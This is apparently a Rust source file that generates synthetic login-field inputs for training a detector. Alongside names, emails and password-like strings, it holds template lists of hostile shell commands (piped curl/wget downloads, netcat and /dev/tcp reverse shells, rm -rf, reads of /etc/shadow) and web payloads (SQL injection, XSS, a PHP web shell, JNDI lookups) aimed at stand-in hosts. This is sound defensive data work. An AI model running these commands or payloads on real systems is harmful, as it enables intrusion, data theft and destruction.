//! Samples of what is typed where a user name belongs, by grammars of our own.

use crate::text::draw::{Draw, family};
use detect::login::{NameKind, SERVICE_ACCOUNTS};

/// A sample.
pub(crate) struct Sample {
    pub(crate) text: String,
    pub(crate) kind: NameKind,
    /// What it shares with its like: the hash of a word, program or template. Held out together.
    pub(crate) family: u64,
}

/// How many samples a grammar makes.
const EACH: usize = 5000;

const DOMAINS: [&str; 16] = [
    "example.org",
    "example.com",
    "mail.example.net",
    "uni.example.edu",
    "corp.example",
    "shop.example.co.uk",
    "example.de",
    "post.example.fr",
    "example.io",
    "team.example.dev",
    "web.example.it",
    "firma.example.at",
    "mx.example.info",
    "host.example.biz",
    "example.se",
    "example.jp",
];
/// Words of which accounts of software are made, beside the list.
const TASKS: [&str; 32] = [
    "backup", "deploy", "monitor", "report", "sync", "build", "test", "mail", "web", "db", "sql", "ftp",
    "scan", "print", "log", "job", "etl", "api", "cache", "queue", "search", "stats", "alert", "proxy",
    "batch", "import", "export", "archive", "billing", "crm", "erp", "ci",
];
const ADMINISTRATIVE: [&str; 14] = [
    "root",
    "admin",
    "administrator",
    "guest",
    "test",
    "user",
    "support",
    "sysadmin",
    "operator",
    "demo",
    "default",
    "super",
    "manager",
    "info",
];
/// Words that people make passwords of.
const WORDS: [&str; 48] = [
    "password", "passw0rd", "p@ssw0rd", "P@ssword", "Summer", "Winter", "Spring", "Autumn", "welcome",
    "Welcome", "letmein", "qwerty", "Qwerty", "qwertz", "azerty", "dragon", "monkey", "football", "baseball",
    "sunshine", "princess", "shadow", "master", "secret", "Secret", "iloveyou", "trustno", "superman",
    "batman", "freedom", "whatever", "hunter", "Monday", "January", "March", "October", "Company", "London",
    "Berlin", "Madrid", "changeme", "Changeme", "abc", "Abcd", "asdf", "zaq", "pass", "Pa$$w0rd",
];
const SIGNS: [&str; 12] = ["!", "!!", "@", "#", "$", "*", "?", ".", "!@#", "1!", "&", "%"];
/// Programs with arguments; `{f}` is a file, `{h}` a host, `{w}` a word, `{n}` a number.
const COMMANDS: [&str; 72] = [
    "rm -rf {f}",
    "rm -fr {f}/*",
    "cat {f}",
    "cat {f} | grep {w}",
    "ls -la {f}",
    "ls",
    "ls -l",
    "cd {f}",
    "cd ..",
    "pwd",
    "whoami",
    "id",
    "uname -a",
    "wget http://{h}/{w}",
    "wget -O- http://{h}/{w}.sh | sh",
    "curl http://{h}/{w}.sh | bash",
    "curl -s https://{h}/{w}",
    "chmod 777 {f}",
    "chmod +x {w}.sh",
    "chown root:root {f}",
    "ps aux",
    "ps -ef | grep {w}",
    "kill -9 {n}",
    "killall {w}",
    "nc {h} {n}",
    "nc -e /bin/sh {h} {n}",
    "netcat -lvp {n}",
    "bash -i >& /dev/tcp/{h}/{n} 0>&1",
    "bash -c '{w} {f}'",
    "sh -c \"{w}\"",
    "/bin/sh",
    "/bin/bash -i",
    "/bin/busybox {w}",
    "python -c 'import os; os.system(\"{w}\")'",
    "python3 -m http.server {n}",
    "perl -e 'exec \"/bin/sh\";'",
    "php -r 'system(\"{w}\");'",
    "ssh {w}@{h}",
    "ssh -p {n} {w}@{h}",
    "scp {f} {w}@{h}:{f}",
    "ping {h}",
    "ping -c {n} {h}",
    "ifconfig",
    "ip addr show",
    "netstat -tulpn",
    "ss -tlnp",
    "crontab -e",
    "crontab -l",
    "useradd {w}",
    "passwd {w}",
    "su - {w}",
    "apt-get install {w}",
    "apt update",
    "yum install {w}",
    "systemctl restart {w}",
    "service {w} stop",
    "docker run -it {w} sh",
    "docker ps",
    "git clone https://{h}/{w}.git",
    "echo {w} > {f}",
    "echo {w} >> {f}",
    "tar xzf {w}.tar.gz",
    "find {f} -name '*.{w}'",
    "mkdir -p {f}",
    "mv {f} {f}",
    "cp -r {f} {f}",
    "dd if=/dev/zero of={f}",
    "mkfs.ext4 /dev/sd{w}",
    "shutdown -h now",
    "reboot",
    "iptables -F",
    "vi {f}",
];
/// What stands around commands that are to be executed by whoever reads a name.
const AROUND: [(&str, &str); 14] = [
    ("", ""),
    ("", ""),
    ("", ""),
    ("sudo ", ""),
    ("sudo ", ""),
    ("sudo -u root ", ""),
    ("; ", ""),
    ("| ", ""),
    ("&& ", ""),
    ("$(", ")"),
    ("`", "`"),
    ("x; ", " #"),
    ("() { :;}; ", ""),
    ("a|", "|"),
];
const FILES: [&str; 20] = [
    "/",
    "/etc/passwd",
    "/etc/shadow",
    "/tmp",
    "/tmp/x",
    "/var/log",
    "/var/www/html",
    "/home",
    "~/.ssh/authorized_keys",
    "/etc",
    "/usr/bin/id",
    "/opt/app",
    "/boot",
    "/dev/null",
    "./run",
    "/etc/hosts",
    "~/.bash_history",
    "*",
    "/srv/data",
    "/proc/self/environ",
];
/// SQL, scripts and templates; `{q}` is a quote, `{w}` a word, `{n}` a number.
const SCRIPTS: [&str; 54] = [
    "{q} OR {q}1{q}={q}1",
    "{q} OR {n}={n} --",
    "{w}{q} or {n}={n}#",
    "{q} or {q}{w}{q}={q}{w}",
    "admin{q} --",
    "admin{q}#",
    "admin{q}/*",
    "{w}{q} and {n}={n} --",
    "{q} UNION SELECT {n},{n},{n} --",
    "{q} union all select null,null,{w} from {w} --",
    "{n} UNION SELECT {w} FROM {w}",
    "{n}) or ({n}={n}",
    "{q}; DROP TABLE {w}; --",
    "{q}; drop table {w}",
    "{q}; INSERT INTO {w} VALUES ({n})",
    "{q}; update {w} set {w}={n} where {n}={n}",
    "1; SELECT * FROM {w}",
    "SELECT * FROM {w} WHERE id={n}",
    "select {w} from {w}",
    "DELETE FROM {w}",
    "{q} AND SLEEP({n}) --",
    "{n} and sleep({n})",
    "{q} waitfor delay {q}0:0:{n}{q} --",
    "{n} AND (SELECT {n} FROM (SELECT(SLEEP({n})))a)",
    "{q} and extractvalue({n},concat(0x7e,version()))",
    "{q} having {n}={n}",
    "{q} order by {n} --",
    "{q}||(select {w} from {w})||{q}",
    "exec xp_cmdshell {q}{w}{q}",
    "benchmark({n},md5({q}{w}{q}))",
    "char({n})+char({n})",
    "{q} group by {w} having {n}={n} --",
    "<script>alert({n})</script>",
    "<script src=//{h}/{w}.js></script>",
    "<img src=x onerror=alert({n})>",
    "\"><script>alert({q}{w}{q})</script>",
    "<svg onload=alert({n})>",
    "<iframe src=javascript:alert({n})>",
    "javascript:alert({q}{w}{q})",
    "<body onload={w}()>",
    "<a href=javascript:{w}()>",
    "<?php system($_GET[{q}{w}{q}]); ?>",
    "<?php phpinfo(); ?>",
    "<%= {w} %>",
    "{{{n}*{n}}}",
    "${{n}*{n}}",
    "${jndi:ldap://{h}/{w}}",
    "${jndi:rmi://{h}:{n}/{w}}",
    "${jndi:dns://{h}}",
    "#{{w}.{w}()}",
    "{{config.{w}}}",
    "{{request.application.__globals__}}",
    "<!--#exec cmd={q}{w}{q}-->",
    "eval({w}({q}{w}{q}))",
];
const HOSTS: [&str; 8] = [
    "192.0.2.10",
    "198.51.100.7",
    "203.0.113.99",
    "evil.example",
    "x.example.net",
    "10.0.0.5",
    "cdn.example.org:8080",
    "host.example",
];

/// A template with its places filled.
fn fill(draw: &mut Draw, template: &str, words: &[String]) -> String {
    let mut out = String::new();
    let mut rest = template;
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        let inner = rest.get(at + 1..at + 3);
        match inner {
            Some("f}") => out.push_str(draw.of(&FILES)),
            Some("h}") => out.push_str(draw.of(&HOSTS)),
            Some("w}") => out.push_str(&draw.of(words)),
            Some("n}") => out.push_str(&(1 + draw.number(9999)).to_string()),
            Some("q}") => out.push(if draw.one_in(4) { '"' } else { '\'' }),
            _ => {
                out.push('{');
                rest = &rest[at + 1..];
                continue;
            }
        }
        rest = &rest[at + 3..];
    }
    out.push_str(rest);
    out
}

fn capital(word: &str) -> String {
    let mut chars = word.chars();
    chars.next().map_or_else(String::new, |c| c.to_uppercase().chain(chars).collect())
}

/// Every sample of every kind.
pub(crate) fn all(given: &[String], family_names: &[String], typed: &[(String, String)]) -> Vec<Sample> {
    let mut draw = Draw::new(20_261_121, 0);
    let mut out = Vec::new();
    let mut add = |text: String, kind: NameKind, of: &str| {
        if !text.is_empty() && text.chars().count() <= 128 {
            out.push(Sample { text, kind, family: family(of) });
        }
    };
    for n in 0..EACH {
        let (first, last) = (draw.of(given), draw.of(family_names));
        let initial = first.chars().next().unwrap_or('a');
        let person = match n % 12 {
            0 | 1 => first.clone(),
            2 => last.clone(),
            3 => format!("{initial}{last}"),
            4 => format!("{first}.{last}"),
            5 => format!("{initial}.{last}"),
            6 => format!("{first}_{last}"),
            7 => format!("{first}{}", draw.number(100)),
            8 => format!("{last}{initial}"),
            9 => format!("{first}{last}"),
            // Typed as people write themselves.
            10 => format!("{} {}", capital(&first), capital(&last)),
            _ => format!("{first} {last}"),
        };
        let person = if draw.one_in(8) { capital(&person) } else { person };
        let domain = draw.of(&DOMAINS);
        let local = match n % 4 {
            0 => draw.of(&TASKS).to_owned(),
            _ => person.clone(),
        };
        add(format!("{local}@{domain}"), NameKind::Email, &first);
        add(person, NameKind::Person, if n % 12 == 2 { &last } else { &first });
    }
    for name in SERVICE_ACCOUNTS.iter().chain(&ADMINISTRATIVE) {
        for text in [
            (*name).to_owned(),
            format!("{name}{}", draw.number(10)),
            format!("{name}-{}", draw.of(&TASKS)),
            format!("{}_{name}", draw.of(&TASKS)),
            format!("{name}user"),
        ] {
            add(text, NameKind::ServiceAccount, name);
        }
    }
    for n in 0..EACH / 2 {
        let (task, other) = (draw.of(&TASKS), draw.of(&TASKS));
        let word = draw.of(&["svc", "service", "srv", "sa", "app", "bot", "daemon", "sys"]);
        let sign = draw.of(&["-", "_", "."]);
        let text = match n % 4 {
            0 => format!("{word}{sign}{task}"),
            1 => format!("{task}{sign}{word}"),
            2 => format!("{word}{sign}{task}{sign}{other}"),
            _ => format!("{word}{sign}{task}{}", draw.number(100)),
        };
        add(text, NameKind::ServiceAccount, task);
    }
    // What attackers typed, where it has what passwords have and names have not.
    for (user, password) in typed {
        let has = |f: fn(&char) -> bool| password.chars().any(|c| f(&c));
        let kinds = usize::from(has(char::is_ascii_lowercase))
            + usize::from(has(char::is_ascii_uppercase))
            + usize::from(has(char::is_ascii_digit))
            + usize::from(has(char::is_ascii_punctuation));
        if password != user && kinds >= 3 && password.len() <= 24 && draw.one_in(4) {
            add(password.clone(), NameKind::PasswordLike, password);
        }
    }
    for n in 0..EACH {
        let word = draw.of(&WORDS);
        let name = capital(&draw.of(given));
        let (sign, year) = (draw.of(&SIGNS), 1970 + draw.number(60));
        let (text, of) = match n % 6 {
            0 => (format!("{word}{year}{sign}"), word),
            1 => (format!("{word}{sign}{}", draw.number(1000)), word),
            2 => (format!("{name}{sign}{year}"), &*name),
            3 => (format!("{name}{}{sign}", draw.number(1000)), &*name),
            4 => (format!("{}{}{sign}", capital(word), draw.number(1000)), word),
            _ => (
                word.replace('a', "@").replace('o', "0").replace('s', "$")
                    + &format!("{}{sign}", draw.number(100)),
                word,
            ),
        };
        add(text, NameKind::PasswordLike, of);
    }
    let words: Vec<String> =
        given.iter().step_by(7).chain(family_names).cloned().chain(TASKS.map(str::to_owned)).collect();
    for n in 0..EACH * 3 / 2 {
        let template = COMMANDS[n % COMMANDS.len()];
        let (before, after) = draw.of(&AROUND);
        let text = format!("{before}{}{after}", fill(&mut draw, template, &words));
        add(text, NameKind::Command, template.split(' ').next().unwrap_or(template));
        let template = SCRIPTS[n % SCRIPTS.len()];
        add(fill(&mut draw, template, &words), NameKind::SqlOrScript, template);
    }
    for n in 0..EACH {
        let len = 8 + draw.number(24);
        let text = match n % 5 {
            0 => draw.characters("0123456789abcdef", 8 * (1 + len / 8)),
            1 => draw.characters("abcdefghijklmnopqrstuvwxyz0123456789", len),
            2 => draw.characters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", len),
            3 => draw.characters("bcdfghjklmnpqrstvwxz", len),
            _ => [8, 4, 4, 4, 12].map(|n| draw.characters("0123456789abcdef", n)).join("-"),
        };
        let of = text.clone();
        add(text, NameKind::Random, &of);
    }
    out
}
